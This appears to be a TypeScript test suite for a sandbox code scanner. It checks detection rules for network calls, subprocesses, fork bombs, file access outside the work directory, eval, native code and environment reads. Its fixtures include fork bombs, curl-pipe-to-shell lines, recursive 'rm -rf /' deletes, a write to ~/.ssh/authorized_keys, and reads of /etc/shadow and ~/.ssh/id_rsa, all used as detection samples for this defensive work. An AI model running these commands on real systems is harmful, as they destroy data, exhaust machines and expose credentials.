import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { RULES, blockingFindings, describeFindings, scanProgram } from '../../server/scanner';
import type { Finding } from '../../server/protocol';

/** `line:ruleId` of every finding, in order — compact to compare. */
function found(language: string, code: string): string[] {
  return scanProgram(language, code).map((f) => `${f.line}:${f.ruleId}`);
}

function has(language: string, code: string, ruleId: string, line?: number): boolean {
  return scanProgram(language, code).some((f) => f.ruleId === ruleId && (line === undefined || f.line === line));
}

function only(language: string, code: string, ruleId: string): Finding {
  const matches = scanProgram(language, code).filter((f) => f.ruleId === ruleId);
  assert.equal(matches.length, 1, `one ${ruleId} finding in ${JSON.stringify(code)}: ${JSON.stringify(matches)}`);
  return matches[0];
}

/** Asserts each snippet has (or, for `negatives`, has not) a finding of `ruleId`. */
function check(ruleId: string, positives: [string, string][], negatives: [string, string][]) {
  for (const [language, code] of positives) assert.ok(has(language, code, ruleId), `${language} ${JSON.stringify(code)} → ${ruleId}`);
  for (const [language, code] of negatives)
    assert.ok(!has(language, code, ruleId), `${language} ${JSON.stringify(code)} → no ${ruleId}: ${found(language, code).join(', ')}`);
}

void describe('scanProgram: rules', () => {
  void it('network: socket modules, fetch, curl, /dev/tcp, socket() — not the same words in comments or strings', () => {
    check(
      'network',
      [
        ['python', 'import socket\n'],
        ['python', 'import os, requests\n'],
        ['python', 'from urllib.request import urlopen\n'],
        ['python', 'import http.client\n'],
        ['python', 'import ftplib'],
        ['python', 'x = requests.get(url)\n'],
        ['javascript', "const net = require('net');"],
        ['javascript', "import https from 'node:https';"],
        ['typescript', "import { request } from 'undici';"],
        ['javascript', "const dns = await import('dns/promises');"],
        ['javascript', 'const r = await fetch(url);'],
        ['typescript', 'const ws = new WebSocket("wss://x");'],
        ['shell', 'curl -s https://example.com'],
        ['shell', 'x=$(wget -qO- http://x)'],
        ['shell', 'if nc -z host 80; then echo up; fi'],
        ['shell', 'exec 3<>/dev/tcp/example.com/80'],
        ['shell', 'ssh user@host ls'],
        ['c', '#include <sys/socket.h>\n'],
        ['c', 'int s = socket(AF_INET, SOCK_STREAM, 0);'],
        ['cpp', 'if (::connect(fd, addr, len) < 0) {}'],
        ['c', 'getaddrinfo(host, "80", &hints, &res);'],
      ],
      [
        ['python', 'print("socket")\n'],
        ['python', '# import socket\n'],
        ['python', 'sockets = 3\nimport os\n'],
        ['javascript', "// require('net')\n"],
        ['javascript', "const s = 'fetch(url)';"],
        ['javascript', 'cache.fetch(key);'],
        ['javascript', "const fs = require('fs');"],
        ['shell', '# curl https://example.com\n'],
        ['shell', 'echo "install curl first"'],
        ['shell', 'cat curl.txt'],
        ['c', '// socket(AF_INET, SOCK_STREAM, 0)\n'],
        ['c', 'puts("socket(");'],
        ['c', 'conn->connect(x);'],
      ],
    );
  });

  void it('subprocess: subprocess/os.system, child_process, system()/fork(), curl | sh', () => {
    check(
      'subprocess',
      [
        ['python', 'import subprocess\n'],
        ['python', 'subprocess.run(["ls"])'],
        ['python', 'os.system("ls")'],
        ['python', 'os.execvp("ls", ["ls"])'],
        ['python', 'from os import system, path\n'],
        ['python', 'import pty\n'],
        ['javascript', "const { execSync } = require('child_process');"],
        ['typescript', "import { spawn } from 'node:child_process';"],
        ['javascript', 'execSync("ls");'],
        ['c', 'system("ls");'],
        ['c', 'pid_t p = fork();'],
        ['cpp', 'std::system("ls");'],
        ['c', 'execvp(argv[0], argv);'],
        ['c', 'FILE *p = popen("ls", "r");'],
        ['shell', 'curl -fsSL https://get.example.com | sh'],
        ['shell', 'wget -qO- https://x | sudo bash'],
        ['shell', 'bash <(curl -s https://x)'],
        ['shell', 'sh -c "$(curl -fsSL https://x)"'],
      ],
      [
        ['python', 'print("os.system")\n'],
        ['python', '# subprocess.run(["ls"])\n'],
        ['javascript', 'const m = /a+/.exec(s);'],
        ['javascript', 'proc.spawn(x);'],
        ['c', 'my_system_call(1);'],
        ['c', '/* fork(); */'],
        ['shell', 'curl -o file.tar.gz https://x'],
        ['shell', 'ls | sh'],
      ],
    );
  });

  void it('fork-bomb: shell bombs and its variants, fork() in an endless loop — not a single fork', () => {
    check(
      'fork-bomb',
      [
        ['shell', ':(){ :|:& };:'],
        ['shell', ':(){ :|: & };:'],
        ['shell', 'f(){ f|f& }; f'],
        ['shell', 'bomb() {\n  bomb | bomb &\n}\nbomb'],
        ['shell', 'function f { f|f& }; f'],
        ['python', 'import os\nwhile True:\n    os.fork()\n'],
        ['python', 'import os\nwhile 1: os.fork()\n'],
        ['python', 'from os import fork\nwhile True:\n    pid = fork()\n    print(pid)\n'],
        ['c', 'int main(void) { for (;;) { fork(); } }'],
        ['c', 'int main(void) { while (1) fork(); }'],
        ['cpp', 'int main() { while (true) {\n  fork();\n} }'],
      ],
      [
        ['shell', 'f() { g | f; }'],
        ['shell', '# :(){ :|:& };:'],
        ['python', 'import os\npid = os.fork()\n'],
        ['python', 'while True:\n    x += 1\n    break\nos.fork()\n'],
        ['python', 'while True:\n    pass  # os.fork()\n'],
        ['c', 'for (;;) { work(); }\nfork();'],
        ['c', 'for (int i = 0; i < 3; i++) fork();'],
      ],
    );
    assert.equal(only('shell', ':(){ :|:& };:', 'fork-bomb').severity, 'error');
    assert.equal(only('python', 'while True:\n    os.fork()\n', 'fork-bomb').line, 1, 'reported on the loop');
  });

  void it('file-outside-workdir: absolute paths in strings, ~, ../, devices — not /dev/null, /tmp or module paths', () => {
    check(
      'file-outside-workdir',
      [
        ['python', 'open("/etc/passwd").read()'],
        ['python', "os.listdir('/home')"],
        ['python', 'open(os.path.expanduser("~/.ssh/id_rsa"))'],
        ['python', 'open("/proc/1/environ")'],
        ['python', 'open("/dev/sda", "rb")'],
        ['python', 'open("../secret.txt")'],
        ['javascript', "fs.readFileSync('/root/.bashrc');"],
        ['typescript', 'const p = `/home/${user}/.ssh`;'],
        ['c', 'FILE *f = fopen("/etc/shadow", "r");'],
        ['cpp', 'std::ifstream in("/proc/self/environ");'],
        ['shell', 'cat /etc/passwd'],
        ['shell', 'cp x ~/.ssh/authorized_keys'],
        ['shell', 'cd ..\nls ../other'],
        ['shell', 'echo "$HOME"'],
        ['shell', 'dd if=/dev/sda of=x'],
      ],
      [
        ['python', 'open("data/etc.txt")'],
        ['python', 'open("/dev/null", "w")'],
        ['python', 'open("/tmp/x", "w")'],
        ['python', '# open("/etc/passwd")\n'],
        ['python', 'print("loading...")'],
        ['javascript', "import { x } from '../lib/x.js';"],
        ['javascript', "const y = require('../y');"],
        ['javascript', "const u = 'https://example.com/etc/x';"],
        ['c', '#include "../include/x.h"\n'],
        ['shell', 'echo hi > /dev/null 2>/dev/stderr'],
        ['shell', 'head -c 8 /dev/urandom'],
        ['shell', 'ls ./etc /tmp/x'],
        ['shell', '[[ $x =~ ^a ]]'],
      ],
    );
    assert.equal(only('python', 'open("/etc/passwd")', 'file-outside-workdir').severity, 'warning');
  });

  void it('file-outside-workdir is an error for recursive deletes of /, ~ and $HOME', () => {
    for (const [language, code] of [
      ['shell', 'rm -rf /'],
      ['shell', 'rm -rf /*'],
      ['shell', 'rm -r -f ~'],
      ['shell', 'rm -rf ~/'],
      ['shell', 'rm --recursive --force "$HOME"'],
      ['shell', 'rm -rf --no-preserve-root /'],
      ['python', 'os.system("rm -rf /")'],
      ['python', 'shutil.rmtree("/")'],
      ['javascript', "fs.rmSync('/', { recursive: true, force: true });"],
      ['c', 'system("rm -rf ~");'],
    ] as const) {
      assert.equal(only(language, code, 'file-outside-workdir').severity, 'error', `${language} ${code}`);
    }
    // Not recursive, or not the root/home: not an error.
    for (const code of ['rm -f /', 'rm -rf ./build', 'rm -rf "$HOME/project/build"', '# rm -rf /']) {
      assert.ok(!scanProgram('shell', code).some((f) => f.severity === 'error'), code);
    }
  });

  void it('dynamic-eval: eval/exec of built code, new Function, vm, shell eval — not literals or methods', () => {
    check(
      'dynamic-eval',
      [
        ['python', 'eval(user_input)'],
        ['python', 'exec(open("x.py").read())'],
        ['python', 'm = __import__(name)'],
        ['python', 'code = compile(src, "x", "exec")'],
        ['javascript', 'eval(code);'],
        ['javascript', "const f = new Function('a', 'return a');"],
        ['typescript', "const g = Function('return this')();"],
        ['javascript', "const vm = require('node:vm');"],
        ['javascript', "new Worker('postMessage(1)', { eval: true });"],
        ['shell', 'eval "$cmd"'],
        ['shell', 'x=1; eval $x'],
      ],
      [
        ['python', 'eval("1 + 2")'],
        ['python', "exec('print(1)', {})"],
        ['python', 'model.eval()'],
        ['python', 're.compile(pattern)'],
        ['python', '# eval(x)\n'],
        ['javascript', '// eval(code)\n'],
        ['javascript', 'obj.eval(x);'],
        ['javascript', "const s = 'eval(x)';"],
        ['javascript', "new Worker('./w.js');"],
        ['shell', 'echo eval'],
        ['shell', '# eval "$cmd"\n'],
      ],
    );
  });

  void it('native-code: ctypes/cffi, process.binding, ffi-napi, asm, dlopen, syscall, ptrace', () => {
    check(
      'native-code',
      [
        ['python', 'import ctypes\n'],
        ['python', 'from cffi import FFI\n'],
        ['python', 'libc = ctypes.CDLL(None)'],
        ['javascript', "process.binding('fs');"],
        ['javascript', 'process.dlopen(module, path);'],
        ['javascript', "const ffi = require('ffi-napi');"],
        ['c', 'asm volatile("nop");'],
        ['c', '__asm__("int $0x80");'],
        ['cpp', 'void *h = dlopen("libx.so", RTLD_NOW);'],
        ['c', 'syscall(SYS_getpid);'],
        ['c', 'ptrace(PTRACE_TRACEME, 0, 0, 0);'],
      ],
      [
        ['python', '# import ctypes\n'],
        ['python', 'print("ctypes")'],
        ['javascript', "// process.binding('fs')\n"],
        ['c', '// asm("nop")\n'],
        ['c', 'int my_syscall(int n);'],
      ],
    );
  });

  void it('environment: os.environ, process.env, printenv/env, getenv — info', () => {
    check(
      'environment',
      [
        ['python', 'key = os.environ["API_KEY"]'],
        ['python', 'os.getenv("HOME")'],
        ['python', 'from os import environ\nx = environ.get("A")\n'],
        ['javascript', 'const t = process.env.TOKEN;'],
        ['typescript', 'const { HOME } = process.env;'],
        ['shell', 'printenv'],
        ['shell', 'env | grep KEY'],
        ['shell', 'env'],
        ['c', 'char *h = getenv("HOME");'],
        ['cpp', 'auto h = std::getenv("HOME");'],
      ],
      [
        ['python', 'def app(environ, start_response):\n    pass\n'],
        ['python', '# os.environ\n'],
        ['javascript', "const s = 'process.env';"],
        ['shell', 'env FOO=1 ./run.sh'],
        ['shell', '#!/usr/bin/env bash\necho hi\n'],
        ['c', '// getenv("HOME")\n'],
      ],
    );
    assert.equal(only('python', 'os.environ["A"]', 'environment').severity, 'info');
  });

  void it('unbounded-recursion: self-calls before any if/return, and huge recursion limits — info', () => {
    check(
      'unbounded-recursion',
      [
        ['python', 'def f(n):\n    print(n)\n    f(n + 1)\n'],
        ['python', 'def f(n):\n    return f(n + 1)\n'],
        ['python', 'class A:\n    def walk(self):\n        self.walk()\n'],
        ['python', 'import sys\nsys.setrecursionlimit(10**6)\n'],
        ['python', 'sys.setrecursionlimit(1_000_000)\n'],
        ['javascript', 'function f(n) { return f(n + 1); }'],
        ['typescript', 'const go = (n: number): number => {\n  console.log(n);\n  return go(n + 1);\n};'],
        ['c', 'int f(int n) {\n  return f(n + 1);\n}'],
        ['shell', 'f() {\n  echo x\n  f\n}'],
      ],
      [
        ['python', 'def f(n):\n    if n == 0:\n        return 0\n    return f(n - 1)\n'],
        ['python', 'def f(n):\n    return 1 if n <= 1 else n * f(n - 1)\n'],
        ['python', 'sys.setrecursionlimit(5000)\n'],
        ['python', 'def f(n):\n    g(n)\n'],
        ['javascript', 'function f(n) { if (n < 2) return n; return f(n - 1) + f(n - 2); }'],
        ['javascript', 'function f(n) { return n < 2 ? n : f(n - 1); }'],
        ['c', 'int f(int n) {\n  if (n == 0) return 0;\n  return f(n - 1);\n}'],
        ['shell', 'f() {\n  [ "$1" -gt 0 ] || return\n  f $(($1 - 1))\n}'],
        ['shell', 'f() {\n  if [ "$1" -gt 0 ]; then f $(($1 - 1)); fi\n}'],
      ],
    );
    assert.equal(only('python', 'def f(n):\n    return f(n + 1)\n', 'unbounded-recursion').severity, 'info');
  });

  void it('every rule id in the table is one of the documented ones, and each has a positive test above', () => {
    const ids = new Set(RULES.map((r) => r.id));
    assert.deepEqual(
      [...ids].sort(),
      ['dynamic-eval', 'environment', 'file-outside-workdir', 'fork-bomb', 'native-code', 'network', 'subprocess', 'unbounded-recursion'],
    );
  });
});

void describe('scanProgram: positions, comments, dedupe', () => {
  void it('reports 1-based line and column of the token', () => {
    const [finding] = scanProgram('python', 'x = 1\n\n    import socket\n');
    assert.deepEqual(
      { ruleId: finding.ruleId, line: finding.line, column: finding.column, severity: finding.severity },
      { ruleId: 'network', line: 3, column: 12, severity: 'warning' },
    );
    const path = only('python', 'print(1)\ndata = open("/etc/hosts").read()\n', 'file-outside-workdir');
    assert.deepEqual([path.line, path.column], [2, 14]);
    assert.match(path.message, /`\/etc\/hosts`/, 'names the whole path');
    const js = only('javascript', "const a = 1;\nconst b = 2; const net = require('net');\n", 'network');
    assert.deepEqual([js.line, js.column], [2, 34], "at the module name 'net'");
    const sh = only('shell', 'set -e\n  ls && curl x\n', 'network');
    assert.deepEqual([sh.line, sh.column], [2, 9]);
  });

  void it('keeps line numbers across block comments, and strips only real comments', () => {
    assert.deepEqual(found('javascript', '/* one\n socket() eval(x)\n three */\neval(y);\n'), ['4:dynamic-eval']);
    assert.deepEqual(found('c', '/* system("a");\n*/ system("b");\n'), ['2:subprocess']);
    // `#` inside a string is not a comment, so what follows on the line is still code.
    assert.deepEqual(found('python', 'x = "#"; import socket\n'), ['1:network']);
    assert.deepEqual(found('python', "s = '''\n# not a comment\n'''; eval(s)\n"), ['3:dynamic-eval']);
    // Shell `$#` and `${#x}` are not comments.
    assert.deepEqual(found('shell', 'echo $# ${#x}; curl x\n'), ['1:network']);
    // `//` inside a string is not a comment either.
    assert.deepEqual(found('javascript', "const u = 'http://x'; eval(u);\n"), ['1:dynamic-eval']);
    // A JS regex literal with a quote in it does not open a string.
    assert.deepEqual(found('javascript', "const r = /'/; eval(x); const s = 'a';\n"), ['1:dynamic-eval']);
    // Code inside a template literal's ${…} is code; the rest of the template is text.
    assert.deepEqual(found('javascript', 'const a = `fetch(u)`;\nconst b = `x ${fetch(u)} y`;\n'), ['2:network']);
  });

  void it('a here-document body is data: an apostrophe there does not hide later code', () => {
    assert.deepEqual(found('shell', "cat <<EOF\ndon't\nEOF\ncurl x\n"), ['4:network']);
  });

  void it('reports each (rule, line) once: the most severe, then the leftmost', () => {
    const same = scanProgram('python', 'import socket; socket.socket(); eval(a) or eval(b)\n');
    assert.deepEqual(
      same.map((f) => [f.ruleId, f.column]),
      [
        ['network', 8],
        ['dynamic-eval', 33],
      ],
    );
    // `~/` alone is a warning; the recursive delete of it on the same line is the one finding kept.
    const rm = scanProgram('shell', 'rm -rf ~/').filter((f) => f.ruleId === 'file-outside-workdir');
    assert.deepEqual(
      rm.map((f) => f.severity),
      ['error'],
    );
    // The same rule on two lines is two findings.
    assert.deepEqual(found('python', 'eval(a)\neval(b)\n'), ['1:dynamic-eval', '2:dynamic-eval']);
  });

  void it('a fork bomb is not also reported as a recursion hint', () => {
    assert.deepEqual(found('shell', ':(){ :|:& };:'), ['1:fork-bomb']);
  });

  void it('findings are in program order', () => {
    const lines = scanProgram('python', 'import os\nos.environ["A"]\nimport socket\nos.system("x")\n').map((f) => f.line);
    assert.deepEqual(lines, [2, 3, 4]);
  });

  void it('unknown languages and empty programs have no findings', () => {
    assert.deepEqual(scanProgram('ruby', 'system("curl x | sh")'), []);
    assert.deepEqual(scanProgram('shellscript', 'curl x'), [], 'the sandbox id is `shell`');
    assert.deepEqual(scanProgram('python', ''), []);
  });

  void it('findings are plain protocol Findings (no editor-only fields)', () => {
    const [f] = scanProgram('python', 'import socket\n');
    assert.deepEqual(Object.keys(f).sort(), ['column', 'line', 'message', 'ruleId', 'severity']);
    assert.match(f.message, /network/);
    assert.ok(!f.message.includes('\n'), 'one line');
  });

  void it('scans a 2 MiB program of every language (a test that it finishes, not a timing)', () => {
    const units: Record<string, string> = {
      python: 'import os\ndef f(n):\n    if n <= 1:\n        return 1\n    return n * f(n - 1)\nx = "a # b"  # c\nprint(open("/etc/hosts").read())\n',
      javascript: "const a = require('fs');\nconst s = `x ${a} y`; // c\nconst r = /ab+c/g;\nconsole.log('/etc/hosts', process.env.HOME);\n",
      typescript: 'const n: number = 1; /* c */\nconst u = fetch("/x");\n',
      shell: 'for i in 1 2; do\n  echo "v $i" # c\n  cat /etc/hosts | grep x\ndone\n',
      c: '#include <stdio.h>\nint main(void) { char *s = "/etc/x"; printf("%d\\n", 1); /* c */ return 0; }\n',
      cpp: 'auto s = R"(raw " string)"; int x = 1\'000;\nstd::system("ls");\n',
    };
    for (const [language, unit] of Object.entries(units)) {
      const copies = Math.ceil((2 * 1024 * 1024) / unit.length);
      const findings = scanProgram(language, unit.repeat(copies));
      assert.ok(findings.length >= copies, `${language}: a finding per copy (${findings.length} < ${copies})`);
      const linesPerUnit = unit.split('\n').length - 1;
      assert.ok(findings[findings.length - 1].line > (copies - 1) * linesPerUnit, `${language}: the last copy is scanned too`);
    }
  });
});

void describe('blockingFindings and describeFindings', () => {
  const findings: Finding[] = [
    { ruleId: 'environment', message: 'reads env', line: 1, column: 1, severity: 'info' },
    { ruleId: 'network', message: 'opens a socket', line: 3, column: 5, severity: 'warning' },
    { ruleId: 'fork-bomb', message: 'forks forever', line: 7, severity: 'error' },
  ];

  void it('blockingFindings keeps warnings and errors, drops info hints', () => {
    assert.deepEqual(
      blockingFindings(findings).map((f) => f.ruleId),
      ['network', 'fork-bomb'],
    );
    assert.deepEqual(blockingFindings([findings[0]]), []);
    assert.deepEqual(
      blockingFindings(scanProgram('python', 'import os\nos.environ["A"]\n')),
      [],
      'an info-only program is not blocked',
    );
  });

  void it('describeFindings writes one line per finding', () => {
    assert.equal(
      describeFindings(findings),
      'line 1: environment — reads env\nline 3: network — opens a socket\nline 7: fork-bomb — forks forever',
    );
    assert.equal(describeFindings([]), '');
  });
});
